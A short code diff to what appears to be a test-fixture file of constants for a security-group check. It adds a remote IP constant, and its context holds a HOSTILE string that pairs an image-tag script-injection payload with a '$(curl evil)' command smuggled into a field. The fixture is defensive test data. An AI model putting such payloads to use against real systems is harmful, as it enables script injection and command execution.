@@ -44,3 +44,5 @@ export const WEB_GROUP = 'sg-0aaaaaaaaaaaaaaa2';
 export const GROUP = 'web';
 /** What an attacker wrote into a tag. */
 export const HOSTILE = '<img src="x" onerror=alert(1)> $(curl evil)';
+/** The far end that the finding names. */
+export const REMOTE = '198.51.100.23';
